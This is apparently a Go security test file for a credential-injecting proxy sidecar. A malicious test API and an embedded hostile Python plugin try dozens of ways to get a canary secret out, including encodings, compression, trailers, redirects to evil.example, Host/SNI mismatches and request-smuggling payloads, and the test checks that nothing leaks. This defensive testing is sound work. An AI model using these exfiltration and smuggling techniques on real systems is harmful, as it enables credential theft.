package attack

import (
	"bytes"
	"compress/gzip"
	"compress/zlib"
	"crypto/sha1"
	"crypto/tls"
	"crypto/x509"
	"encoding/base64"
	"encoding/binary"
	"encoding/hex"
	"encoding/json"
	"encoding/pem"
	"fmt"
	"io"
	"log"
	"net/http"
	"net/http/httptest"
	"net/url"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/andybalholm/brotli"
	"github.com/klauspost/compress/zstd"

	"github.com/chaperone-proxy/chaperone/internal/testenv"
	"github.com/chaperone-proxy/chaperone/internal/testenv/scenario"
)

// canary is the credential that nobody but the API is to see.
const canary = "Canary+7f3a/91c2=e4d5"

// spellings returns the encodings in which a malicious API writes a secret.
func spellings(secret string) map[string]string {
	wide := func(low bool) string {
		var out []byte
		for _, b := range []byte(secret) {
			if low {
				out = append(out, b, 0)
			} else {
				out = append(out, 0, b)
			}
		}
		return string(out)
	}
	each := func(format string) string {
		var out strings.Builder
		for _, b := range []byte(secret) {
			fmt.Fprintf(&out, format, b)
		}
		return out.String()
	}
	b64 := func(prefix string) string { return base64.StdEncoding.EncodeToString([]byte(prefix + secret + "tail")) }
	return map[string]string{
		"raw": secret, "base64": b64(""), "base64-1": b64("x"), "base64-2": b64("xy"),
		"base64url": base64.RawURLEncoding.EncodeToString([]byte(secret)), "hex": hex.EncodeToString([]byte(secret)),
		"HEX": strings.ToUpper(hex.EncodeToString([]byte(secret))), "query": url.QueryEscape(secret), "percent": each("%%%02x"),
		"json": strings.ReplaceAll(secret, "/", `\/`), "unicode": each(`\u%04x`), "html": strings.ReplaceAll(secret, "+", "&#43;"),
		"mustache": strings.NewReplacer("/", "&#x2F;", "=", "&#x3D;").Replace(secret), "handlebars": strings.ReplaceAll(secret, "=", "&#x3D;"),
		"entities": each("&#%d;"), "utf16le": wide(true), "utf16be": wide(false),
	}
}

// spellingIn reports in which spelling a text holds the secret.
func spellingIn(text []byte, secret string) string {
	for name, spelling := range spellings(secret) {
		if strings.HasPrefix(name, "base64-") || name == "base64" { // its first and last characters depend on the neighbours
			spelling = spelling[4 : len(spelling)-8]
		}
		if bytes.Contains(text, []byte(spelling)) {
			return name
		}
	}
	return ""
}

// maliciousUpstream is an API that does what it can to give the credential to the plugin.
type maliciousUpstream struct {
	server *httptest.Server
	secret func(*http.Request) string // as it arrived

	mu       sync.Mutex
	received []string // requests: line, head and body
}

func newMaliciousUpstream(t *testing.T, e *scenario.Env, name string, secret func(*http.Request) string) *maliciousUpstream {
	t.Helper()
	a := &maliciousUpstream{secret: secret}
	a.server = httptest.NewUnstartedServer(http.HandlerFunc(a.serve))
	a.server.TLS = &tls.Config{ClientAuth: tls.RequestClientCert, Certificates: []tls.Certificate{testenv.MustGet(e.API.CA.Issue(name))(t)}}
	a.server.Config.ErrorLog = log.New(io.Discard, "", 0)
	a.server.StartTLS()
	t.Cleanup(a.server.Close)
	return a
}

func (a *maliciousUpstream) port() string {
	return a.server.URL[strings.LastIndex(a.server.URL, ":")+1:]
}

func (a *maliciousUpstream) requests() string {
	a.mu.Lock()
	defer a.mu.Unlock()
	return strings.Join(a.received, "\n")
}

func (a *maliciousUpstream) serve(w http.ResponseWriter, r *http.Request) {
	body, _ := io.ReadAll(r.Body) // a truncated body is searched too
	client := ""
	if len(r.TLS.PeerCertificates) > 0 {
		client = "client of " + strings.Join(r.TLS.PeerCertificates[0].DNSNames, " ")
	}
	a.mu.Lock()
	a.received = append(a.received, fmt.Sprint(r.Method, " ", r.Host, " ", r.RequestURI, " ", r.Header, " ", client, " ", string(body)))
	a.mu.Unlock()
	maliciousAnswer(w, r, strings.TrimPrefix(r.URL.Path, "/v1/"), a.secret(r))
}

// maliciousAnswer answers with a secret, in the way that was asked for.
func maliciousAnswer(w http.ResponseWriter, r *http.Request, way, secret string) {
	h := w.Header()
	h.Set("Content-Type", "application/json")
	if spelling, ok := spellings(secret)[way]; ok {
		_, _ = io.WriteString(w, `{"you sent":"`+spelling+`"}`)
		return
	}
	if compress := compressors[way]; compress != nil {
		h.Set("Content-Encoding", way)
		z := compress(w)
		_, _ = io.WriteString(z, secret)
		_ = z.Close()
		return
	}
	switch way {
	case "headers":
		h.Set("X-Echo", secret)
		h.Set("Www-Authenticate", `Bearer realm="`+secret+`"`)
		h.Set("Server-Timing", `db;desc="`+secret+`"`)
		h.Set("X-"+url.PathEscape(strings.NewReplacer("/", "", "=", "", "+", "").Replace(secret)), "1") // its name
		h.Set("Location", "https://evil.example/?"+url.QueryEscape(secret))
		http.SetCookie(w, &http.Cookie{Name: "echo", Value: base64.StdEncoding.EncodeToString([]byte(secret))})
		w.WriteHeader(http.StatusFound)
	case "early":
		h.Set("Link", "<"+secret+">")
		w.WriteHeader(http.StatusEarlyHints)
		h.Del("Link")
		w.WriteHeader(http.StatusOK)
	case "trailer":
		h.Set("Trailer", "X-Echo")
		_, _ = io.WriteString(w, "{}")
		h.Set("X-Echo", secret)
	case "error":
		http.Error(w, "bad token "+secret, http.StatusInternalServerError)
	case "pieces":
		h.Set("Content-Type", "text/event-stream")
		for _, b := range []byte("data: " + secret + "\n\n") {
			_, _ = w.Write([]byte{b})
			_ = http.NewResponseController(w).Flush() // the plugin may have gone
		}
	case "range":
		http.ServeContent(w, r, "", time.Time{}, strings.NewReader(secret))
	case "grpc":
		h.Set("Content-Type", "application/grpc")
		h.Set("Trailer", "Grpc-Status, Grpc-Message, Grpc-Status-Details-Bin")
		message := "\x0a" + string(rune(len(secret))) + secret
		_, _ = w.Write(binary.BigEndian.AppendUint32([]byte{0}, uint32(len(message))))
		_, _ = io.WriteString(w, message)
		h.Set("Grpc-Status", "7")
		h.Set("Grpc-Message", url.PathEscape(secret))
		h.Set("Grpc-Status-Details-Bin", base64.RawStdEncoding.EncodeToString([]byte("\x08\x07\x12"+secret)))
	case "quiet":
		_, _ = io.WriteString(w, "{}")
	case "away":
		h.Set("Location", "https://evil.example/")
		w.WriteHeader(http.StatusTemporaryRedirect)
	case "redirect":
		w.Header().Set("Location", "https://evil.example/?"+url.QueryEscape(secret))
		w.WriteHeader(http.StatusTemporaryRedirect)
	case "ws":
		maliciousWebSocket(w, r, secret)
	case "stream":
		for r.Context().Err() == nil {
			_, _ = io.WriteString(w, "data, and more of it\n")
			_ = http.NewResponseController(w).Flush() // the plugin may have gone
			time.Sleep(20 * time.Millisecond)
		}
	case "endless", "hints":
		endlessAnswer(w, way, secret)
	default:
		_, _ = fmt.Fprintf(w, "{%q: %q}", r.RequestURI, fmt.Sprint(r.Header, r.Trailer))
	}
}

// endlessAnswer answers with ten thousand trailers, or informational answers, and
// with nothing behind them.
func endlessAnswer(w http.ResponseWriter, way, secret string) {
	conn, _, err := http.NewResponseController(w).Hijack()
	if err != nil {
		return // HTTP/2 has no connection to hijack
	}
	defer conn.Close()
	head, line := "HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\nTrailer: X-Echo\r\n\r\n0\r\n", "X-Echo: "+secret+"\r\n"
	if way == "hints" {
		head, line = "", "HTTP/1.1 103 Early Hints\r\nLink: "+secret+"\r\n\r\n"
	}
	_ = conn.SetDeadline(time.Now().Add(10 * time.Second)) // it may be that nobody reads on
	_, _ = io.WriteString(conn, head+strings.Repeat(line, 10_000))
}

// compressors are the content codings that are known.
var compressors = map[string]func(io.Writer) io.WriteCloser{
	"gzip":    func(w io.Writer) io.WriteCloser { return gzip.NewWriter(w) },
	"deflate": func(w io.Writer) io.WriteCloser { return zlib.NewWriter(w) },
	"br":      func(w io.Writer) io.WriteCloser { return brotli.NewWriter(w) },
	"zstd": func(w io.Writer) io.WriteCloser {
		z, err := zstd.NewWriter(w)
		if err != nil {
			panic(err) // it has no options that could fail
		}
		return z
	},
}

// maliciousWebSocket accepts a WebSocket whatever it asks for, and sends the
// secret in its head, in a message, and in one of two parts.
func maliciousWebSocket(w http.ResponseWriter, r *http.Request, secret string) {
	if r.Header.Get("Upgrade") == "" {
		http.Error(w, "no WebSocket", http.StatusBadRequest)
		return
	}
	key := sha1.Sum([]byte(r.Header.Get("Sec-Websocket-Key") + "258EAFA5-E914-47DA-95CA-C5AB0DC85B11"))
	conn, in, err := http.NewResponseController(w).Hijack()
	if err != nil {
		return // HTTP/2 has no connection to hijack
	}
	defer conn.Close()
	_, _ = fmt.Fprintf(conn, "HTTP/1.1 101 Switching Protocols\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-Websocket-Accept: %s\r\nX-Echo: %s\r\n\r\n",
		base64.StdEncoding.EncodeToString(key[:]), secret)
	frame := []byte{0x81, byte(len(secret))}
	if len(secret) > 125 { // RFC 6455, section 5.2
		frame = binary.BigEndian.AppendUint16([]byte{0x81, 126}, uint16(len(secret)))
	}
	frame = append(frame, secret...)
	_, _ = conn.Write(frame)
	if strings.Contains(r.URL.Path, "/ws/stream") {
		for err == nil {
			time.Sleep(20 * time.Millisecond)
			_, err = conn.Write([]byte("\x81\x04data"))
		}
		return
	}
	for _, b := range frame {
		_, _ = conn.Write([]byte{b})
	}
	_ = conn.SetReadDeadline(time.Now().Add(300 * time.Millisecond)) // keeps what the plugin sent
	_, _ = io.Copy(io.Discard, in)
}

// hostileScript is the plugin: it prints what it got of each attempt, in base64.
const hostileScript = `
import base64, gzip, os, socket, ssl, sys, time
from urllib.parse import urlsplit
good, evil, length = sys.argv[1], sys.argv[2], int(sys.argv[3])
placeholder = os.environ.get("PLACEHOLDER", "none")
proxy = urlsplit(os.environ["HTTPS_PROXY"])
token = ""
if proxy.username:
    token = "Proxy-Authorization: Basic " + base64.b64encode(f"{proxy.username}:{proxy.password}".encode()).decode() + "\r\n"
tls = ssl.create_default_context(cafile=os.environ["SSL_CERT_FILE"])
tls.check_hostname = False
def all_of(s):
    got = b""
    try:
        while piece := s.recv(65536): got += piece
    except OSError: pass
    return got
def ask(raw, to=good, sni=None):
    s = socket.create_connection((proxy.hostname, proxy.port), 10)
    try:
        s.sendall(f"CONNECT {to} HTTP/1.1\r\nHost: {to}\r\n{token}\r\n".encode())
        head = b""
        while b"\r\n\r\n" not in head:
            piece = s.recv(1)
            if not piece: return head
            head += piece
        if b" 200 " not in head: return head
        t = tls.wrap_socket(s, server_hostname=sni or to.split(":")[0])
        t.settimeout(5)
        t.sendall(raw if isinstance(raw, bytes) else raw.encode())
        return head + all_of(t)
    except (OSError, ssl.SSLError) as e: return str(e).encode()
    finally: s.close()
def get(path, *heads, host=good, method="GET", body=""):
    heads = "".join(h + "\r\n" for h in heads)
    return f"{method} {path} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n{heads}\r\n{body}"
def tell(name, got): print("got", name, base64.b64encode(got).decode(), flush=True)
for way in sys.argv[4:]:
    tell(way, ask(get("/v1/" + way, "Accept-Encoding: gzip, deflate, br, zstd", "TE: trailers")))
tell("slices", b"".join(ask(get("/v1/range", f"Range: bytes={i}-{i}")).split(b"\r\n\r\n", 2)[-1] for i in range(length)))
for name, raw, to, sni in [
    ("tunnel good, host evil", get("/v1/raw", host=evil), good, None),
    ("tunnel evil, host good", get("/v1/raw", host=good), evil, None),
    ("tunnel evil, SNI good", get("/v1/raw", host=good), evil, good.split(":")[0]),
    ("tunnel good, SNI evil", get("/v1/raw", host=evil), good, evil.split(":")[0]),
    ("absolute evil", get("https://" + evil + "/v1/raw", host=good), good, None),
    ("two hosts", get("/v1/raw", "Host: " + evil), good, None),
    ("userinfo", get("/v1/raw", host=good.split(":")[0] + "@" + evil), good, None),
    ("dot", get("/v1/raw", host=evil.replace(":", ".:")), evil, None),
    ("both lengths", get("/v1/raw", "Content-Length: 4", "Transfer-Encoding: chunked", method="POST", body="0\r\n\r\nGET /v1/raw HTTP/1.1\r\nHost: " + evil + "\r\n\r\n"), good, None),
    ("forwarded", get("/v1/raw", "X-Forwarded-Host: " + evil, "X-Original-URL: /v1/raw", "Forwarded: host=" + evil), good, None),
]: tell(name, ask(raw, to, sni))
tell("hop", ask(get("/v1/all?hop", "Connection: Authorization, Cookie", "Keep-Alive: authorization")))
tell("own", ask(get("/v1/all?own", "Authorization: Bearer mine", "authorization: Basic bWluZQ==", "Cookie: sid=mine; other=1")))
if placeholder != "none":
    half = len(placeholder) // 2
    chunks = "".join(f"{len(c):x}\r\n{c}\r\n" for c in (placeholder[:half], placeholder[half:])) + "0\r\n\r\n"
    zipped = gzip.compress(placeholder.encode())
    for name, raw in [
        ("path", get("/v1/" + placeholder)), ("query", get("/v1/all?k=" + placeholder)), ("header", get("/v1/all", "X-Note: " + placeholder)),
        ("encoded", get("/v1/all", "X-Note: " + base64.b64encode(placeholder.encode()).decode())),
        ("body", get("/v1/all", f"Content-Length: {len(placeholder)}", method="POST", body=placeholder)),
        ("chunks", get("/v1/all", "Transfer-Encoding: chunked", method="POST", body=chunks)),
        ("gzip body", get("/v1/all", "Content-Encoding: gzip", f"Content-Length: {len(zipped)}", method="POST").encode() + zipped),
        ("elsewhere", None),
    ]:
        tell("placeholder in " + name, ask(raw) if raw else ask(get("/v1/all", "Authorization: Bearer " + placeholder, host=evil), evil))
print("done", flush=True)
time.sleep(600)
`

// exfiltration is a credential that a plugin and an API try to get out, and where the
// API receives it.
type exfiltration struct {
	kernel  string // "": off
	inject  string
	path    string         // in Vault; "": secret/data/weather
	fields  map[string]any // there; nil: api_key
	secret  string
	more    []string // that are secret too
	shows   string   // the text that shows it in a request, if it is not the secret
	arrived func(*http.Request) string
}

// TestHostilePlugin has a plugin and an API work together to get the credential
// out, for each way to inject one, and looks at what the plugin, another host,
// the log, the metrics and the status got. The plugin is a program that has only
// its environment.
func TestHostilePlugin(t *testing.T) {
	bearer := func(r *http.Request) string { return strings.TrimPrefix(r.Header.Get("Authorization"), "Bearer ") }
	pair := testenv.MustGet(testenv.MustGet(testenv.NewCA("clients"))(t).Issue("weather.example"))(t)
	key := testenv.MustGet(x509.MarshalPKCS8PrivateKey(pair.PrivateKey))(t)
	for name, c := range map[string]exfiltration{
		"header":            {inject: `{header: Authorization, value: "Bearer {api_key}"}`, secret: canary, arrived: bearer},
		"header, kernel on": {kernel: "required", inject: `{header: Authorization, value: "Bearer {api_key}"}`, secret: canary, arrived: bearer},
		"query":             {inject: `{query: key, value: "{api_key}"}`, secret: canary, arrived: func(r *http.Request) string { return r.URL.Query().Get("key") }},
		"cookie": {inject: `{cookie: sid, value: "{api_key}"}`, secret: canary, arrived: func(r *http.Request) string {
			c, err := r.Cookie("sid")
			if err != nil {
				return ""
			}
			return c.Value
		}},
		"basic": {inject: `{basic: {username: weather, password: "{api_key}"}}`, secret: canary, arrived: func(r *http.Request) string {
			_, password, _ := r.BasicAuth()
			return password
		}},
		"oauth2": {
			inject: `{oauth2: {tokenURL: "TOKENS/token", caFile: api-ca.pem}}`, secret: canary, more: []string{clientCanary},
			fields: map[string]any{"client_id": "weather", "client_secret": clientCanary}, arrived: bearer,
		},
		"mtls": {inject: `{mtls: {}}`, secret: string(key), shows: "client of weather.example", fields: map[string]any{
			"certificate": string(pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: pair.Certificate[0]})),
			"private_key": string(pem.EncodeToMemory(&pem.Block{Type: "PRIVATE KEY", Bytes: key})),
		}, arrived: func(*http.Request) string { return "nothing" }},
		"sigv4": {
			inject: `{sigv4: {service: execute-api, region: eu-west-1}}`, secret: sessionCanary, more: []string{awsCanary},
			fields:  map[string]any{"access_key": keyIDCanary, "secret_key": awsCanary, "security_token": sessionCanary},
			arrived: func(r *http.Request) string { return r.Header.Get("X-Amz-Security-Token") },
		},
		"jwt": {inject: `{jwt: {algorithm: ES256, keyID: weather-1, issuer: weather}}`, path: "transit/sign/weather", shows: "Bearer eyJ", arrived: bearer},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			exfiltrate(t, c)
		})
	}
}

// prepare puts the credential into Vault.
func (c *exfiltration) prepare(t *testing.T, e *scenario.Env) {
	t.Helper()
	ctx := t.Context()
	if c.fields == nil {
		c.fields = map[string]any{"api_key": c.secret}
	}
	if c.path == "" {
		c.path = "secret/data/weather"
		testenv.Must(t, e.Vault.PutSecret(ctx, "weather", c.fields))
		return
	}
	testenv.Must(t, e.Vault.EnableEngine(ctx, "transit", "transit", nil))
	testenv.MustGet(e.Vault.Write(ctx, "transit/keys/weather", map[string]any{"type": "ecdsa-p256", "exportable": true}))(t)
	exported := testenv.MustGet(e.Vault.Read(ctx, "transit/export/signing-key/weather"))(t)
	keys, _ := exported["keys"].(map[string]any)
	c.secret = fmt.Sprint(keys["1"])
	testenv.Must(t, e.Vault.Policy(ctx, "weather", `path "transit/sign/weather/*" { capabilities = ["update"] }`))
}

// spellingIn returns in which spelling a text holds any of it, "" for none.
func (c *exfiltration) spellingIn(text []byte) string {
	for _, secret := range append([]string{c.secret}, c.more...) {
		if how := spellingIn(text, secret); how != "" {
			return how
		}
	}
	return ""
}

func exfiltrate(t *testing.T, c exfiltration) {
	if c.kernel == "" {
		c.kernel = "off"
	}
	e := scenario.New(t, c.kernel, "")
	good := newMaliciousUpstream(t, e, scenario.Host, c.arrived)
	evil := newMaliciousUpstream(t, e, "evil.example", c.arrived)
	c.prepare(t, e)
	secret, inject := c.secret, c.inject
	tokens := httptest.NewUnstartedServer(http.HandlerFunc(func(rw http.ResponseWriter, r *http.Request) {
		rw.Header().Set("Content-Type", "application/json")
		_ = json.NewEncoder(rw).Encode(map[string]any{"access_token": secret, "expires_in": 3600})
	}))
	tokens.TLS = &tls.Config{Certificates: []tls.Certificate{testenv.MustGet(e.API.CA.Issue("127.0.0.1"))(t)}}
	tokens.StartTLS()
	t.Cleanup(tokens.Close)
	inject = strings.ReplaceAll(inject, "TOKENS", tokens.URL)
	metrics := testenv.FreeAddress(t)
	e.Write("sidecar.yaml", strings.NewReplacer(
		"dns: {hosts: {", "dns: {hosts: {evil.example: [127.0.0.1], ", `metrics: "127.0.0.1:0"`, "metrics: "+strconv.Quote(metrics),
	).Replace(e.Read("sidecar.yaml")))
	to := func(name string, a *maliciousUpstream) string {
		return fmt.Sprintf("to: {hosts: [%s], ports: [%s], addresses: [127.0.0.1/32], tls: {caFile: api-ca.pem}}, methods: [GET, POST], paths: [\"/v1/*\"]", name, a.port())
	}
	placeholder := "    placeholder: {env: PLACEHOLDER, like: \"wk_{24}\"}\n"
	if strings.Contains(inject, "mtls") {
		placeholder = "" // it has no place in a request
	}
	e.Write("grant.yaml", fmt.Sprintf(`apiVersion: chaperone.dev/v1alpha1
kind: PluginGrant
metadata: {name: weather}
spec:
  plugin: weather
  notAfter: %s
  rules:
  - {id: api, reason: Tests, %s, credential: key}
  - {id: evil, reason: Tests, %s}
  credentials:
  - name: key
    vault: {path: %s}
    inject: %s
%s`, time.Now().Add(time.Hour).UTC().Format(time.RFC3339), to(scenario.Host, good), to("evil.example", evil), c.path, inject, placeholder))
	args := []string{"python3", "-c", hostileScript, scenario.Host + ":" + good.port(), "evil.example:" + evil.port(), fmt.Sprint(min(len(secret), 40))}
	for way := range spellings(secret) {
		args = append(args, way)
	}
	args = append(args, "headers", "early", "trailer", "error", "pieces", "gzip", "deflate", "br", "zstd", "range", "grpc", "all")
	b := e.Start(args...)
	testenv.Eventually(t, "the plugin has tried everything", func() (bool, bool) { return true, strings.Contains(b.Output.String(), "\ndone") })
	received := good.requests()
	if c.path != "secret/data/weather" { // Vault made it
		for _, token := range regexp.MustCompile(`Bearer (eyJ[^ \]]+)`).FindAllStringSubmatch(received, -1) {
			c.more = append(c.more, token[1])
		}
	}
	tried := 0
	for line := range strings.Lines(b.Output.String()) {
		rest, ok := strings.CutPrefix(line, "got ")
		if !ok {
			continue
		}
		tried++
		at := strings.LastIndex(strings.TrimSpace(rest), " ")
		attempt := rest[:max(at, 0)]
		got := testenv.MustGet(base64.StdEncoding.DecodeString(strings.TrimSpace(rest[at+1:])))(t)
		if how := c.spellingIn(decompressed(got)); how != "" {
			t.Errorf("%s: the plugin got the credential, spelled %s:\n%s", attempt, how, got)
		}
		if strings.HasPrefix(attempt, "placeholder in ") && !bytes.Contains(got, []byte("credential_misplaced")) {
			t.Errorf("%s is not refused as that:\n%s", attempt, got)
		}
	}
	if tried < 40 {
		t.Errorf("only %d attempts", tried)
	}
	c.mustNotLeak(t, e, b, map[string]string{"the other host": evil.requests(), "the metrics": metricsOf(t, metrics)})
	c.mustArrive(t, received, evil.requests())
}

// mustNotLeak looks for it in everything that the plugin and readers of the sidecar's
// output can see.
func (c *exfiltration) mustNotLeak(t *testing.T, e *scenario.Env, b *scenario.Process, looked map[string]string) {
	t.Helper()
	looked["the log"], looked["status"] = e.Read("state/audit.jsonl"), fmt.Sprint(e.Ready())
	looked["usage"] = e.Chaperone("usage", "--config", e.File("sidecar.yaml"), "--output", "json").Stdout
	for line := range strings.Lines(b.Output.String()) {
		if !strings.HasPrefix(line, "got ") {
			looked["stderr"] += line
		}
	}
	for where, text := range looked {
		if how := c.spellingIn([]byte(text)); how != "" {
			t.Errorf("%s has the credential, spelled %s", where, how)
		}
	}
}

// mustArrive checks that the API got it, and nothing of the plugin's in its place.
func (c *exfiltration) mustArrive(t *testing.T, received, elsewhere string) {
	t.Helper()
	for _, want := range []string{"?hop", "?own"} {
		at := strings.Index(received, want)
		if at < 0 {
			t.Errorf("%s did not arrive", want)
			continue
		}
		line, _, _ := strings.Cut(received[at:], "\n")
		if c.shows != "" {
			if !strings.Contains(line, c.shows) {
				t.Errorf("%s arrived without the credential: %s", want, line)
			}
		} else if spellingIn([]byte(line), c.secret) == "" && !strings.Contains(line, base64.StdEncoding.EncodeToString([]byte("weather:"+c.secret))) {
			t.Errorf("%s arrived without the credential: %s", want, line)
		}
		if strings.Contains(c.inject, "header") && strings.Contains(line, "mine") && !strings.Contains(line, "sid=mine") {
			t.Errorf("the plugin's own arrived: %s", line)
		}
	}
	if strings.Contains(elsewhere, "client of") {
		t.Error("the other host was shown a certificate")
	}
	if strings.Contains(received+elsewhere, "wk_") {
		t.Errorf("got the placeholder at the upstream: %s", received)
	}
}

// decompressed returns an answer and, where its body is compressed, that too.
func decompressed(answer []byte) []byte {
	out := slices.Clone(answer)
	decode := func(open func(io.Reader) (io.Reader, error), from []byte) {
		r, err := open(bytes.NewReader(from))
		if err == nil {
			plain, _ := io.ReadAll(r) // as much as there is
			out = append(out, plain...)
		}
	}
	for magic, open := range map[string]func(io.Reader) (io.Reader, error){
		"\x1f\x8b":         func(r io.Reader) (io.Reader, error) { return gzip.NewReader(r) },
		"\x78\x9c":         func(r io.Reader) (io.Reader, error) { return zlib.NewReader(r) },
		"\x28\xb5\x2f\xfd": func(r io.Reader) (io.Reader, error) { return zstd.NewReader(r, zstd.WithDecoderConcurrency(1)) },
	} {
		if at := bytes.Index(answer, []byte(magic)); at >= 0 {
			decode(open, answer[at:])
		}
	}
	if bytes.Contains(bytes.ToLower(answer), []byte("content-encoding: br")) { // it has no magic, and begins anywhere
		for at := range answer {
			decode(func(r io.Reader) (io.Reader, error) { return brotli.NewReader(r), nil }, answer[at:])
		}
	}
	return out
}

// metricsOf returns what the sidecar shows as metrics.
func metricsOf(t *testing.T, address string) string {
	t.Helper()
	resp := testenv.MustGet(http.Get("http://" + address + "/metrics"))(t)
	defer resp.Body.Close()
	return string(testenv.MustGet(io.ReadAll(resp.Body))(t))
}
